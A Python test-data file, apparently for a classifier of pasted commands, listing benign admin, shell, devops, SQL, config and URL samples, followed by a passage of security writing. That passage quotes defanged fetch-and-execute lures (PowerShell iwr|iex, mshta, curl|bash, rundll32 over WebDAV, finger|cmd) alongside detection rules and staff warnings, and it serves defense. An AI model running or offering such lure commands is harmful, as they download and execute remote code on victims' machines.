    ok("vendor-own-page", TERM, src, text)

# ---- 3. Admin PowerShell ----

MS = "https://learn.microsoft.com/en-us/powershell/module/"
ADMIN_PS = [
    "Get-Service | Where-Object {$_.Status -eq 'Running'} | Sort-Object DisplayName",
    "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 Name, Id, CPU, WS",
    "Get-EventLog -LogName System -EntryType Error -Newest 50 | Format-Table TimeGenerated, Source, Message -Wrap",
    "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4625; StartTime=(Get-Date).AddDays(-1)} | Measure-Object",
    "Test-NetConnection -ComputerName fileserver01 -Port 445",
    "Get-NetIPConfiguration | Select-Object InterfaceAlias, IPv4Address, IPv4DefaultGateway, DNSServer",
    "Resolve-DnsName -Name intranet.contoso.com -Type A",
    "Get-ADUser -Filter {Enabled -eq $false} -Properties LastLogonDate | Select-Object Name, SamAccountName, LastLogonDate",
    "Get-ADGroupMember -Identity 'Domain Admins' -Recursive | Select-Object Name",
    "Unlock-ADAccount -Identity jdoe",
    "Set-ADAccountPassword -Identity jdoe -Reset -NewPassword (Read-Host -AsSecureString 'New password')",
    "Get-ChildItem -Path C:\\Logs -Recurse -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item -WhatIf",
    "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime",
    "Get-CimInstance Win32_LogicalDisk -Filter \"DriveType=3\" | Select-Object DeviceID, @{n='FreeGB';e={[math]::Round($_.FreeSpace/1GB,1)}}",
    "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5",
    "Restart-Service -Name Spooler -Force",
    "Get-Printer | Where-Object PrinterStatus -ne 'Normal'",
    "Get-LocalGroupMember -Group Administrators",
    "Get-ScheduledTask | Where-Object {$_.State -eq 'Ready' -and $_.TaskPath -notlike '\\Microsoft\\*'}",
    "Get-BitLockerVolume | Select-Object MountPoint, VolumeStatus, ProtectionStatus",
    "Get-MpComputerStatus | Select-Object AMServiceEnabled, AntivirusEnabled, RealTimeProtectionEnabled, AntivirusSignatureLastUpdated",
    "Update-MpSignature",
    "Start-MpScan -ScanType QuickScan",
    "Get-NetFirewallRule -Enabled True -Direction Inbound | Select-Object DisplayName, Profile, Action | Sort-Object DisplayName",
    "New-NetFirewallRule -DisplayName 'Allow SQL 1433' -Direction Inbound -Protocol TCP -LocalPort 1433 -Action Allow -Profile Domain",
    "Install-Module -Name PSWindowsUpdate -Scope CurrentUser",
    "Get-WindowsUpdate -MicrosoftUpdate",
    "Install-Module Microsoft.Graph -Scope CurrentUser -Repository PSGallery",
    "Connect-MgGraph -Scopes 'User.Read.All','Group.Read.All'",
    "Get-MgUser -Filter \"startswith(displayName,'Anna')\" -Property DisplayName,Mail,AccountEnabled",
    "Connect-ExchangeOnline -UserPrincipalName admin@contoso.onmicrosoft.com",
    "Get-Mailbox -ResultSize Unlimited | Where-Object {$_.ForwardingSmtpAddress -ne $null} | Select-Object Name, ForwardingSmtpAddress",
    "Set-MailboxAutoReplyConfiguration -Identity anna.berg -AutoReplyState Enabled -InternalMessage 'On leave until 5 January.'",
    "Get-MessageTrace -SenderAddress invoices@fabrikam.com -StartDate (Get-Date).AddDays(-2) -EndDate (Get-Date)",
    "Invoke-Command -ComputerName ws-101, ws-102 -ScriptBlock { Get-Service WinRM }",
    "Enter-PSSession -ComputerName srv-app02 -Credential (Get-Credential)",
    "Get-Acl C:\\Shares\\Finance | Format-List",
    "icacls 'D:\\Projects' /grant 'CONTOSO\\Dev Team:(OI)(CI)M'",
    "Compress-Archive -Path .\\reports\\* -DestinationPath .\\reports-2026-12.zip",
    "Get-FileHash .\\installer.msi -Algorithm SHA256",
    "$PSVersionTable",
    "Get-ExecutionPolicy -List",
    "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser",
    "Get-Content .\\app.log -Tail 50 -Wait",
    "Select-String -Path .\\*.log -Pattern 'timeout' -SimpleMatch | Group-Object Filename | Sort-Object Count -Descending",
    "Import-Csv .\\users.csv | ForEach-Object { New-ADUser -Name $_.Name -SamAccountName $_.Sam -Path 'OU=Staff,DC=contoso,DC=com' -Enabled $true -AccountPassword (ConvertTo-SecureString $_.TempPw -AsPlainText -Force) }",
    "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName, DisplayVersion | Sort-Object DisplayName",
    "Get-AppxPackage *xbox* | Remove-AppxPackage",
    "winget upgrade --all --include-unknown",
    "Repair-WindowsImage -Online -RestoreHealth",
    "Clear-DnsClientCache; ipconfig /registerdns",
    "Get-VM | Where-Object State -eq 'Running' | Select-Object Name, CPUUsage, MemoryAssigned",
    "Checkpoint-VM -Name build-agent-01 -SnapshotName 'before-patch-2026-12'",
    "Get-SmbShare | Select-Object Name, Path, Description",
    "Measure-Command { Invoke-WebRequest https://intranet.contoso.com/health -UseBasicParsing }",
    "Invoke-RestMethod -Uri 'https://api.github.com/repos/PowerShell/PowerShell/releases/latest' | Select-Object tag_name, published_at",
    "Get-Command -Module Az.Compute | Measure-Object",
    "Connect-AzAccount -Tenant 00000000-0000-0000-0000-000000000000; Get-AzVM -Status | Format-Table Name, PowerState",
    "Export-Csv -InputObject (Get-LocalUser) -Path .\\local-users.csv -NoTypeInformation",
    "Get-PnpDevice -Status ERROR",
    "powercfg /batteryreport /output C:\\Temp\\battery.html",
]
for i, text in enumerate(ADMIN_PS):
    src = (
        None
        if i % 3 == 0
        else MS
        + ["microsoft.powershell.management/", "activedirectory/", "exchange/", "defender/"][i % 4]
    )
    ok("admin-powershell", TERM, src, text)

# ---- 4. Admin cmd ----

ADMIN_CMD = [
    "ipconfig /all",
    "ipconfig /flushdns",
    "netstat -ano | findstr :3389",
    "tracert 8.8.8.8",
    "ping -n 20 gateway.contoso.local",
    "nslookup mail.contoso.com",
    "gpupdate /force",
    "gpresult /h C:\\Temp\\gp.html",
    "sfc /scannow",
    "DISM /Online /Cleanup-Image /RestoreHealth",
    "chkdsk C: /f /r",
    'systeminfo | findstr /B /C:"OS Name" /C:"OS Version"',
    "whoami /groups",
    "net user jdoe /domain",
    "net localgroup administrators",
    "net use S: \\\\fileserver\\shared /persistent:yes",
    "robocopy D:\\Data \\\\nas01\\backup\\data /MIR /R:2 /W:5 /LOG:C:\\Temp\\robocopy.log",
    "wmic bios get serialnumber",
    "manage-bde -status",
    'shutdown /r /t 300 /c "Patch reboot in 5 minutes"',
    "schtasks /query /fo LIST /v | findstr TaskName",
    'tasklist /svc /fi "imagename eq svchost.exe"',
    "taskkill /IM outlook.exe /F",
    "sc query wuauserv",
    "sc config wuauserv start= auto",
    "netsh wlan show profiles",
    "netsh advfirewall show allprofiles state",
    "route print -4",
    "arp -a",
    "certutil -hashfile C:\\Downloads\\setup.exe SHA256",
    "certutil -store my",
    "klist purge",
    "w32tm /resync",
    "dir /s /b *.pst",
    "powercfg /energy",
    "bcdedit /enum",
    "fsutil fsinfo ntfsinfo C:",
]
for i, text in enumerate(ADMIN_CMD):
    src = (
        None
        if i % 2
        else "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/"
        + text.split()[0]
    )
    ok("admin-cmd", TERM, src, text)

# ---- 5. Shell one-liners ----

SHELL = [
    "du -sh * | sort -h | tail -20",
    "df -h /",
    "find . -name '*.pyc' -delete",
    "find /var/log -type f -mtime +14 -name '*.gz' -print",
    "grep -rn 'TODO' src/ | wc -l",
    "tail -f /var/log/nginx/access.log | grep --line-buffered ' 500 '",
    "journalctl -u nginx --since '1 hour ago' --no-pager",
    "systemctl status postgresql",
    "sudo systemctl restart docker",
    "ss -tulpn | grep LISTEN",
    "lsof -i :8080",
    "ps aux --sort=-%mem | head -15",
    "free -h",
    "uptime",
    "awk -F, '{sum+=$3} END {print sum}' sales.csv",
    "sed -i 's/localhost/db.internal/g' config.yaml",
    "tar -czvf backup-$(date +%F).tar.gz ~/projects",
    "tar -xzf node-v22.11.0-linux-x64.tar.gz -C /opt",
    "rsync -avz --progress ./site/ deploy@web01:/var/www/site/",
    "scp report.pdf anna@jump.example.org:/home/anna/",
    "ssh -L 5432:localhost:5432 bastion.internal",
    "ssh-keygen -t ed25519 -C 'anna@laptop'",
    "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@web01",
    "chmod 600 ~/.ssh/id_ed25519",
    "chown -R www-data:www-data /var/www/html",
    "ls -la --color=auto",
    "history | grep kubectl | tail",
    "curl -I https://www.example.org",
    "curl -s https://api.github.com/repos/torvalds/linux | jq '.stargazers_count'",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"name\":\"test\"}' http://localhost:3000/api/items",
    "wget https://releases.ubuntu.com/24.04/ubuntu-24.04.1-live-server-amd64.iso",
    "sha256sum ubuntu-24.04.1-live-server-amd64.iso",
    "openssl s_client -connect example.com:443 -servername example.com </dev/null | openssl x509 -noout -dates",
    "openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -days 365 -nodes -subj '/CN=localhost'",
    "echo $PATH | tr ':' '\\n'",
    "export EDITOR=vim",
    "source ~/.bashrc",
    "alias ll='ls -alF'",
    'for f in *.jpg; do convert "$f" -resize 50% "small_$f"; done',
    "ffmpeg -i input.mov -vcodec h264 -acodec aac output.mp4",
    "xargs -n1 -P4 curl -sO < urls.txt",
    "watch -n 2 'kubectl get pods'",
    "crontab -l",
    "dig +short TXT example.com",
    "nc -zv db.internal 5432",
    "nmap -sV -p 22,80,443 192.168.1.0/24",
    "base64 -d <<< 'aGVsbG8gd29ybGQ='",
    "python3 -m http.server 8000",
    "python3 -m venv .venv && source .venv/bin/activate",
    "make -j$(nproc)",
    "git log --oneline --graph --decorate -20",
    "zip -r site.zip public/",
    "unzip -l archive.zip",
    "mkdir -p ~/bin && mv tool ~/bin/",
    "sudo ufw allow 22/tcp && sudo ufw enable",
    "sudo apt-mark hold kubelet kubeadm kubectl",
    "lsblk -f",
    "sudo mount /dev/sdb1 /mnt/usb",
    "cat /etc/os-release",
    "uname -a",
    "hostnamectl set-hostname build-02",
    "timedatectl set-timezone Europe/Berlin",
]
for i, text in enumerate(SHELL):
    src = (
        None
        if i % 3
        else [
            "https://askubuntu.com/questions/",
            "https://unix.stackexchange.com/questions/",
            "https://wiki.archlinux.org/title/",
        ][i % 3]
    )
    ok("shell", TERM, src, text)

# ---- 6. Package managers ----

PKG = [
    "sudo apt update && sudo apt upgrade -y",
    "sudo apt install -y build-essential git curl",
    "sudo dnf install -y htop",
    "sudo pacman -Syu",
    "brew install jq ripgrep fd",
    "brew upgrade --cask",
    "brew install --cask visual-studio-code",
    "pip install -r requirements.txt",
    "pip install --upgrade pip setuptools wheel",
    "python -m pip install 'pandas>=2.2,<3'",
    "pipx install black",
    "uv pip install -e '.[dev]'",
    "uv sync --frozen",
    "poetry add httpx",
    "conda create -n ds python=3.12 numpy scipy",
    "npm install",
    "npm ci --omit=dev",
    "npm install --save-dev typescript @types/node",
    "npm run build",
    "npx prettier --write .",
    "npx create-react-app my-app",
    "npm create vite@latest my-vue-app -- --template vue",
    "yarn add axios",
    "pnpm install --frozen-lockfile",
    "cargo build --release",
    "cargo add serde --features derive",
    "cargo install ripgrep",
    "go mod tidy",
    "go get github.com/stretchr/testify@latest",
    "go install golang.org/x/tools/gopls@latest",
    "gem install bundler && bundle install",
    "composer require guzzlehttp/guzzle",
    "dotnet add package Newtonsoft.Json --version 13.0.3",
    "dotnet new webapi -n Orders.Api",
    "nuget restore Solution.sln",
    "winget install Microsoft.PowerToys",
    "winget install --id Git.Git -e --source winget",
    "choco install 7zip -y",
    "choco upgrade all -y",
    "scoop install nodejs-lts",
    "sdk install java 21.0.5-tem",
    "flatpak install flathub org.gimp.GIMP",
    "snap install code --classic",
    "apk add --no-cache bash curl",
    "rustup component add clippy rustfmt",
]
for i, text in enumerate(PKG):
    ok(
        "package-manager",
        TERM,
        None if i % 2 else "https://stackoverflow.com/questions/tagged/" + text.split()[0],
        text,
    )

# ---- 7. docker / kubectl / git / terraform / helm ----

DEVOPS = [
    "docker ps -a --format 'table {{.Names}}\\t{{.Status}}\\t{{.Ports}}'",
    "docker compose up -d --build",
    "docker compose logs -f api",
    "docker exec -it postgres psql -U postgres",
    'docker run --rm -it -v "$PWD":/work -w /work python:3.12-slim bash',
    "docker build -t registry.internal/orders:1.4.2 .",
    "docker system prune -af --volumes",
    "docker image ls | grep none",
    "docker run -d --name redis -p 6379:6379 redis:7-alpine",
    "docker login ghcr.io -u anna",
    "docker buildx build --platform linux/amd64,linux/arm64 -t app:dev .",
    "kubectl get pods -n payments -o wide",
    "kubectl describe pod api-7d9c8b6f5-x2lqp -n payments",
    "kubectl logs -f deploy/api -n payments --tail=100",
    "kubectl rollout restart deployment/web -n frontend",
    "kubectl rollout status deployment/web -n frontend",
    "kubectl get events --sort-by=.metadata.creationTimestamp -A",
    "kubectl port-forward svc/grafana 3000:80 -n monitoring",
    "kubectl apply -f k8s/ --dry-run=server",
    "kubectl config use-context prod-eu",
    "kubectl top nodes",
    "kubectl scale deploy/worker --replicas=5 -n jobs",
    "kubectl delete pod -l app=worker --field-selector=status.phase=Failed -n jobs",
    "kubectl get secret db-creds -o jsonpath='{.data.password}' | base64 -d",
    "kubectl exec -it deploy/api -- sh",
    "helm repo add bitnami https://charts.bitnami.com/bitnami && helm repo update",
    "helm upgrade --install ingress ingress-nginx/ingress-nginx -n ingress --create-namespace",
    "helm template ./chart -f values-prod.yaml | less",
    "terraform init -upgrade",
    "terraform plan -out tfplan",
    "terraform apply tfplan",
    "terraform state list | grep aws_s3_bucket",
    "terraform fmt -recursive",
    "ansible-playbook -i inventory/prod site.yml --check --diff",
    "aws s3 ls s3://company-reports/2026/ --recursive --human-readable",
    "aws sts get-caller-identity",
    "aws logs tail /aws/lambda/ingest --follow",
    "az login --use-device-code",
    "az account set --subscription 'Prod'",
    "az vm list -d -o table",
    "gcloud auth login",
    "gcloud config set project analytics-prod",
    "git status",
    "git pull --rebase origin main",
    "git checkout -b feature/invoice-export",
    "git commit -am 'Fix rounding in invoice totals'",
    "git push -u origin feature/invoice-export",
    "git stash list",
    "git rebase -i HEAD~3",
    "git cherry-pick 4f2a9c1",
    "git reset --hard origin/main",
    "git clone git@github.com:acme/orders-service.git",
    "git remote -v",
    "git fetch --all --prune",
    "git diff --stat main...HEAD",
    "git blame -L 40,60 src/billing.py",
    "git tag -a v1.4.2 -m 'Release 1.4.2' && git push --tags",
    "git bisect start HEAD v1.3.0",
    "gh pr create --fill --draft",
    "gh run watch",
]
for i, text in enumerate(DEVOPS):
    src = (
        None
        if i % 4
        else [
            "https://docs.docker.com/reference/cli/docker/",
            "https://kubernetes.io/docs/reference/kubectl/",
            "https://git-scm.com/docs",
            "https://developer.hashicorp.com/terraform/cli",
        ][(i // 4) % 4]
    )
    ok("devops", TERM, src, text)

# ---- 8. SQL ----

SQL = [
    "SELECT customer_id, SUM(amount) AS total FROM orders WHERE created_at >= '2026-11-01' GROUP BY customer_id ORDER BY total DESC LIMIT 20;",
    "UPDATE users SET is_active = false WHERE last_login < now() - interval '180 days';",
    "DELETE FROM sessions WHERE expires_at < NOW();",
    "CREATE INDEX CONCURRENTLY idx_orders_customer ON orders (customer_id, created_at);",
    "EXPLAIN ANALYZE SELECT * FROM invoices WHERE status = 'open';",
    "ALTER TABLE products ADD COLUMN sku varchar(32) UNIQUE;",
    "SELECT pid, state, query_start, left(query, 80) FROM pg_stat_activity WHERE state <> 'idle';",
    "SELECT pg_size_pretty(pg_total_relation_size('public.events'));",
    "BEGIN; UPDATE accounts SET balance = balance - 100 WHERE id = 1; UPDATE accounts SET balance = balance + 100 WHERE id = 2; COMMIT;",
    "WITH monthly AS (SELECT date_trunc('month', created_at) m, count(*) c FROM signups GROUP BY 1) SELECT m, c, c - lag(c) OVER (ORDER BY m) AS delta FROM monthly;",
    "SELECT TOP 100 * FROM dbo.AuditLog ORDER BY EventTime DESC;",
    "EXEC sp_who2;",
    "SELECT name, state_desc, recovery_model_desc FROM sys.databases;",
    "BACKUP DATABASE Sales TO DISK = 'D:\\Backups\\Sales_20261207.bak' WITH COMPRESSION, CHECKSUM;",
    "SHOW PROCESSLIST;",
    "SELECT table_name, round((data_length + index_length) / 1024 / 1024, 1) AS mb FROM information_schema.tables WHERE table_schema = 'shop' ORDER BY mb DESC;",
    "GRANT SELECT ON ALL TABLES IN SCHEMA reporting TO analyst;",
    "CREATE USER app_ro WITH PASSWORD 'change-me'; GRANT CONNECT ON DATABASE app TO app_ro;",
    "SELECT email, count(*) FROM users GROUP BY email HAVING count(*) > 1;",
    "SELECT * FROM orders o LEFT JOIN payments p ON p.order_id = o.id WHERE p.id IS NULL;",
    "VACUUM (VERBOSE, ANALYZE) events;",
    "COPY (SELECT * FROM leads WHERE created_at::date = current_date) TO STDOUT WITH CSV HEADER;",
    "SELECT json_extract(payload, '$.user.id') AS uid FROM webhooks LIMIT 10;",
    "MERGE INTO stock t USING incoming s ON t.sku = s.sku WHEN MATCHED THEN UPDATE SET qty = s.qty WHEN NOT MATCHED THEN INSERT (sku, qty) VALUES (s.sku, s.qty);",
    "SELECT DATEADD(day, -7, GETDATE());",
]
for i, text in enumerate(SQL):
    ok(
        "sql",
        UNK if i % 2 else "other",
        None if i % 3 else "https://www.postgresql.org/docs/current/",
        text,
    )

# ---- 9. Config snippets ----

CONFIG = [
    "server {\n    listen 443 ssl;\n    server_name shop.example.org;\n    location / { proxy_pass http://127.0.0.1:8080; }\n}",
    "[Unit]\nDescription=Orders API\nAfter=network.target\n\n[Service]\nExecStart=/opt/orders/bin/orders --port 8080\nRestart=on-failure\nUser=orders\n\n[Install]\nWantedBy=multi-user.target",
    "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: example\n    volumes:\n      - pgdata:/var/lib/postgresql/data\nvolumes:\n  pgdata:",
    "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  selector:\n    matchLabels: {app: web}\n  template:\n    metadata:\n      labels: {app: web}\n    spec:\n      containers:\n        - name: web\n          image: nginx:1.27",
    '{\n  "editor.formatOnSave": true,\n  "editor.tabSize": 2,\n  "files.trimTrailingWhitespace": true\n}',
    "[user]\n\tname = Anna Berg\n\temail = anna.berg@example.com\n[pull]\n\trebase = true",
    "Host bastion\n  HostName 203.0.113.10\n  User anna\n  IdentityFile ~/.ssh/id_ed25519\n\nHost db-*\n  ProxyJump bastion",
    '[tool.ruff]\nline-length = 100\ntarget-version = "py312"\n\n[tool.pytest.ini_options]\naddopts = "-q"',
    "on:\n  push:\n    branches: [main]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test",
    'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD ["gunicorn", "app:app", "-b", "0.0.0.0:8000"]',
    "DATABASE_URL=postgres://app:app@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\nLOG_LEVEL=debug",
    '{\n  "compilerOptions": {\n    "target": "ES2022",\n    "module": "NodeNext",\n    "strict": true,\n    "outDir": "dist"\n  }\n}',
    '<configuration>\n  <system.webServer>\n    <httpErrors errorMode="Detailed" />\n  </system.webServer>\n</configuration>',
    "# /etc/hosts\n127.0.0.1   localhost\n192.168.1.20 nas.home.arpa",
    "set -g mouse on\nset -g history-limit 50000\nbind r source-file ~/.tmux.conf",
    "vim.opt.number = true\nvim.opt.relativenumber = true\nvim.keymap.set('n', '<leader>w', ':w<CR>')",
    "logging:\n  level:\n    root: INFO\n    com.acme.orders: DEBUG",
    "[global]\nindex-url = https://pypi.org/simple\ntimeout = 60",
    "# crontab\n15 2 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1",
    'module "vpc" {\n  source  = "terraform-aws-modules/vpc/aws"\n  version = "5.8.1"\n  cidr    = "10.0.0.0/16"\n}',
    '<?xml version="1.0"?>\n<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup>\n    <TargetFramework>net8.0</TargetFramework>\n  </PropertyGroup>\n</Project>',
    "upstream api { server 10.0.1.11:8080; server 10.0.1.12:8080; }",
    "export PS1='\\u@\\h:\\w\\$ '\nexport HISTSIZE=10000",
    "[Interface]\nPrivateKey = <redacted>\nAddress = 10.8.0.2/24\n\n[Peer]\nPublicKey = <server key>\nEndpoint = vpn.example.org:51820\nAllowedIPs = 10.8.0.0/24",
]
for i, text in enumerate(CONFIG):
    ok(
        "config",
        "other" if i % 2 else UNK,
        None if i % 3 else "https://stackoverflow.com/questions/",
        text,
    )

# ---- 10. Console JavaScript a developer types ----

CONSOLE_OK = [
    "document.querySelectorAll('a').length",
    "console.table([...document.images].map(i => ({src: i.src, w: i.naturalWidth})))",
    "localStorage.clear()",
    "sessionStorage.getItem('cart')",
    "JSON.parse(localStorage.getItem('settings'))",
    "document.designMode = 'on'",
    "$0.style.outline = '2px solid red'",
    "copy(JSON.stringify(window.__NEXT_DATA__, null, 2))",
    "performance.getEntriesByType('navigation')[0].domContentLoadedEventEnd",
    "navigator.userAgent",
    "fetch('/api/health').then(r => r.json()).then(console.log)",
    "await (await fetch('/api/me')).json()",
    "[...document.querySelectorAll('input[type=checkbox]')].forEach(c => c.checked = true)",
    "document.cookie",
    "new Date().toISOString()",
    "Intl.DateTimeFormat().resolvedOptions().timeZone",
    "Array.from({length: 5}, (_, i) => i * i)",
    "getEventListeners(document.querySelector('button'))",
    "monitorEvents(window, 'resize')",
    "window.scrollTo(0, document.body.scrollHeight)",
    "document.querySelector('video').playbackRate = 1.75",
    "Object.keys(window).filter(k => k.startsWith('__'))",
    "console.log(atob('SGVsbG8sIGRldmVsb3BlciE='))",
    "crypto.randomUUID()",
    "structuredClone({a: 1, b: [2, 3]})",
    "document.body.innerText.split(/\\s+/).length",
    "[...new Set(['a','b','a'])]",
    "location.reload(true)",
    "caches.keys().then(k => console.log(k))",
    "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
    "indexedDB.databases().then(console.log)",
    "performance.memory",
    "document.title = 'Focus'",
    "String.fromCharCode(72, 105)",
    "console.time('x'); for (let i = 0; i < 1e6; i++); console.timeEnd('x')",
]
for i, text in enumerate(CONSOLE_OK):
    ok(
        "console-js",
        CON,
        None if i % 2 else "https://developer.chrome.com/docs/devtools/console/utilities",
        text,
    )

# ---- 11. URLs ----

URL_OK = [
    "https://github.com/pallets/flask/issues/5312",
    "https://docs.python.org/3/library/asyncio-task.html",
    "https://en.wikipedia.org/wiki/Clipboard_(computing)",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://meet.google.com/abc-defg-hij",
    "https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc%40thread.v2/0",
    "https://zoom.us/j/98765432100?pwd=abc",
    "https://drive.google.com/file/d/1AbCdEfGhIjKlMnOp/view?usp=sharing",
    "https://contoso.sharepoint.com/sites/Finance/Shared%20Documents/Budget%202027.xlsx",
    "https://www.amazon.de/dp/B0CX23V2ZK",
    "https://maps.app.goo.gl/xyz123",
    "https://stackoverflow.com/a/1732454",
    "https://learn.microsoft.com/en-us/windows/win32/api/winuser/nf-winuser-setclipboarddata",
    "https://status.aws.amazon.com/",
    "https://portal.azure.com/#home",
    "https://console.cloud.google.com/",
    "https://grafana.internal.example.com/d/abc/api-latency?orgId=1&from=now-6h",
    "http://localhost:3000/dashboard",
    "http://192.168.1.1/",
    "https://news.ycombinator.com/item?id=42000000",
    "https://www.bbc.co.uk/news",
    "https://calendly.com/anna-berg/30min",
    "https://www.figma.com/file/AbC123/Checkout-Redesign",
    "https://jira.example.com/browse/PAY-1432",
    "https://confluence.example.com/display/ENG/Onboarding",
    "https://pypi.org/project/requests/",
    "https://www.npmjs.com/package/zod",
    "https://crates.io/crates/tokio",
    "https://www.booking.com/hotel/pt/lisbon-central.html",
    "https://mail.google.com/mail/u/0/#inbox",
    "https://outlook.office.com/mail/",
    "https://chat.openai.com/",
    "https://github.com/settings/tokens",
    "https://web.whatsapp.com/",
    "https://www.linkedin.com/in/anna-berg-123456/",
]
for i, text in enumerate(URL_OK):
    ok(
        "url",
        [UNK, RUN, "other"][i % 3],
        None if i % 2 else "https://mail.example.com/thread/" + str(1000 + i),
        text,
    )

# ---- 12. Run box and Explorer entries (program names, paths, URLs, shell: and ms-settings:) ----

RUN_OK = [
    "notepad",
    "calc",
    "mspaint",
    "cmd",
    "powershell",
    "regedit",
    "services.msc",
    "devmgmt.msc",
    "compmgmt.msc",
    "eventvwr.msc",
    "taskmgr",
    "control",
    "appwiz.cpl",
    "ncpa.cpl",
    "sysdm.cpl",
    "mmsys.cpl",
    "msconfig",
    "winver",
    "%temp%",
    "%appdata%",
    "%localappdata%\\Microsoft\\Teams",
    "shell:startup",
    "shell:downloads",
    "shell:sendto",
    "ms-settings:windowsupdate",
    "ms-settings:display",
    "ms-settings:privacy-microphone",
    "\\\\fileserver\\shared",
    "\\\\nas01\\scans",
    "C:\\Program Files",
    "https://intranet.contoso.com",
    "excel",
    "optionalfeatures",
    "gpedit.msc",
    "diskmgmt.msc",
    "resmon",
    "cleanmgr",
]
for text in RUN_OK:
    ok("run-box-typed", RUN, None, text)
EXPLORER_OK = [
    "C:\\Users\\anna\\Documents\\Invoices\\2026",
    "D:\\Projects\\orders-service",
    "\\\\fileserver\\finance\\Q4",
    "%USERPROFILE%\\Downloads",
    "shell:recent",
    "Control Panel\\All Control Panel Items\\Credential Manager",
    "C:\\Windows\\Logs\\CBS",
    "shell:::{645FF040-5081-101B-9F08-00AA002F954E}",
    "This PC\\Documents",
    "ftp://ftp.example.org/pub/",
]
for i, text in enumerate(EXPLORER_OK):
    ok(
        "explorer-entry",
        EXP,
        None if i % 2 else "https://support.example.com/kb/find-your-files",
        text,
    )
ok(
    "run-box-from-page",
    RUN,
    "https://support.microsoft.com/en-us/windows/open-device-manager",
    "devmgmt.msc",
)
ok("run-box-from-page", RUN, "https://www.howtogeek.com/windows-run-commands/", "shell:startup")
ok(
    "run-box-from-page",
    RUN,
    "https://support.microsoft.com/en-us/windows/windows-update-faq",
    "ms-settings:windowsupdate-history",
)
ok("run-box-from-page", RUN, "https://helpdesk.example.edu/printing", "\\\\printsrv01")
ok("run-box-from-page", EXP, "https://helpdesk.example.edu/shares", "\\\\files.example.edu\\home")

# ---- 13. Security writing that quotes lures, detection rules and queries ----

SEC = [
    'ClickFix in one sentence: a page copies a command like `powershell -w h -c "iwr hxxps://evil[.]example/a|iex"` to your clipboard and asks you to press Win+R, Ctrl+V, Enter. Never do that.',
    "IOC summary (defanged): mshta hxxps://verify-captcha[.]top/c.hta ; 185.234.x.x:443 ; SHA256 3f1a...9c2e. Block at proxy, hunt for mshta.exe with a URL argument spawned by explorer.exe.",
    'Awareness note for staff: if a website says "press Windows + R and paste" to prove you are human, close the tab and report it to security@company.example. Real CAPTCHAs never ask you to run anything.',
    'DeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n| where FileName in~ ("powershell.exe","mshta.exe","cmd.exe")\n| where ProcessCommandLine has_any ("captcha","robot","verification")',
    "title: Suspicious RunMRU entry with PowerShell download\nlogsource:\n  product: windows\n  category: registry_set\ndetection:\n  selection:\n    TargetObject|contains: '\\\\RunMRU\\\\'\n    Details|contains|all: ['powershell', 'http']\n  condition: selection\nlevel: high",
    'index=wineventlog EventCode=4688 New_Process_Name="*\\\\mshta.exe" Process_Command_Line="*http*" | stats count by host, Process_Command_Line',
    'The FileFix variant hides the command behind a fake path: `powershell -c "..." # C:\\\\company\\\\internal\\\\HR.docx`. Users only see the path in the address bar. Train people to never paste into Explorer from a web page.',
    "Threat report excerpt: the loader used `rundll32 \\\\\\\\host@SSL\\\\DavWWWRoot\\\\x.dll,Entry` to pull a DLL over WebDAV. Disabling the WebClient service breaks this chain.",
    "Hunting tip: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU keeps what users typed into Win+R. Look for entries longer than 60 characters or containing '#'.",
    "Our SOC saw finger.exe used as a downloader this week: `finger user@host | cmd`. finger.exe has no business running on our laptops; we added an AppLocker deny rule.",
    'rule ClickFix_Clipboard_Lure {\n  strings:\n    $a = "navigator.clipboard.writeText" ascii\n    $b = "I am not a robot" ascii nocase\n    $c = "powershell" ascii nocase\n  condition:\n    all of them\n}',
    "Q: A user pasted `mshta https://...` into Run after a fake CAPTCHA. What now?\nA: Isolate the host, collect RunMRU and Prefetch, reset the user's passwords from a clean device, and check browser credential stores.",
    "EtherHiding explained: the injected script calls eth_call on a BNB Smart Chain testnet contract, gets back base64, and evals it. Takedowns of domains don't help because the payload lives on-chain.",
    "Writeup: macOS AMOS stealer campaign asked victims to paste `curl -fsSL hxxps://macfix[.]site/i.sh | bash` in Terminal, then showed an osascript password dialog to harvest the login password.",
    "Detection engineering backlog:\n- alert on conhost.exe --headless with a child powershell\n- alert on SyncAppvPublishingServer.vbs with 'iwr' or 'irm'\n- alert on msiexec /i with an http(s) URL from explorer.exe",
    "ConsentFix (2025): victims were told to paste the localhost URL from the address bar, which contained an OAuth authorization code, back into the phishing page. Treat any request to paste a 'localhost' URL as phishing.",
    "Pour info : la campagne ClickFix de cette semaine utilise un faux CAPTCHA Cloudflare qui copie une commande PowerShell. Ne collez jamais rien dans la fen\u00eatre Ex\u00e9cuter.",
    "Hinweis der IT-Sicherheit: Webseiten, die Sie auffordern, Windows+R zu dr\u00fccken und etwas einzuf\u00fcgen, sind Betrug (\u201eClickFix\u201c). Bitte melden Sie solche Seiten an it-security@firma.example.",
